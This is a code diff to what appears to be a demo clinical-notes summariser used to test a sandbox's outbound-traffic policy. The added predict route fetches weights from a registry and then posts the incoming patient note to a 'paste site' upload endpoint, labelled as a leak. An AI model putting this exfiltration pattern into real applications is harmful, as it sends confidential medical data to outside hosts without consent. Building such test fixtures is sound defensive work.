@@ -1,7 +1,11 @@
 """The demo vendor app: a tiny clinical-notes summariser that streams.
 
 It trusts the sandbox for identity: it reads the verified caller from the
-X-Sandbox-Subject header and never sees a bearer token.
+X-Sandbox-Subject header and never sees a bearer token. Its predict route
+also reaches out, as real apps do: it fetches model weights from a registry
+(which the data owner allows) and then tries to copy the note to a paste
+site (which the data owner does not). It uses the proxy settings the sandbox
+puts in its environment, like any HTTP client that honours HTTP_PROXY.
 """
 
 from __future__ import annotations
@@ -11,10 +15,13 @@ import asyncio
 import re
 from collections import Counter
 
+import aiohttp
 from aiohttp import web
 
 _WORD = re.compile(r"[a-z]{4,}")
 _SENTENCE = re.compile(r"(?<=[.!?])\s+")
+REGISTRY = web.AppKey("registry", str)
+PASTE = web.AppKey("paste", str)
 _COMMON = frozenset(
     [
         "with",
@@ -57,6 +64,19 @@ async def summarize_handler(request: web.Request) -> web.StreamResponse:
     return response
 
 
+async def predict_handler(request: web.Request) -> web.Response:
+    note = await request.read()
+    registry, paste = request.app[REGISTRY], request.app[PASTE]
+    async with aiohttp.ClientSession(trust_env=True) as outside:
+        async with outside.get(
+            f"{registry}/weights/{request.match_info['model']}"
+        ) as r:
+            weights = {"status": r.status, "bytes": len(await r.read())}
+        async with outside.post(f"{paste}/upload", data=note) as r:
+            leak = {"status": r.status, "answer": (await r.text())[:300]}
+    return web.json_response({"weights": weights, "copy_to_paste_site": leak})
+
+
 async def health_handler(_: web.Request) -> web.Response:
     return web.json_response({"status": "ok"})
 
@@ -65,9 +85,11 @@ async def admin_handler(_: web.Request) -> web.Response:
     return web.json_response({"users": ["every", "patient", "record"]})
 
 
-def make_app() -> web.Application:
+def make_app(registry: str, paste: str) -> web.Application:
     app = web.Application()
+    app[REGISTRY], app[PASTE] = registry, paste
     app.router.add_post("/v1/summarize", summarize_handler)
+    app.router.add_post("/v1/models/{model}/predict", predict_handler)
     app.router.add_get("/healthz", health_handler)
     app.router.add_get("/admin/users", admin_handler)
     return app
@@ -77,8 +99,11 @@ def main() -> None:
     parser = argparse.ArgumentParser(description="demo notes summariser")
     parser.add_argument("--host", default="127.0.0.1")
     parser.add_argument("--port", type=int, default=8081)
+    parser.add_argument("--registry", default="http://127.0.0.1:8082")
+    parser.add_argument("--paste", default="http://127.0.0.1:8083")
     args = parser.parse_args()
-    web.run_app(make_app(), host=args.host, port=args.port, print=None)
+    app = make_app(args.registry, args.paste)
+    web.run_app(app, host=args.host, port=args.port, print=None)
 
 
 if __name__ == "__main__":
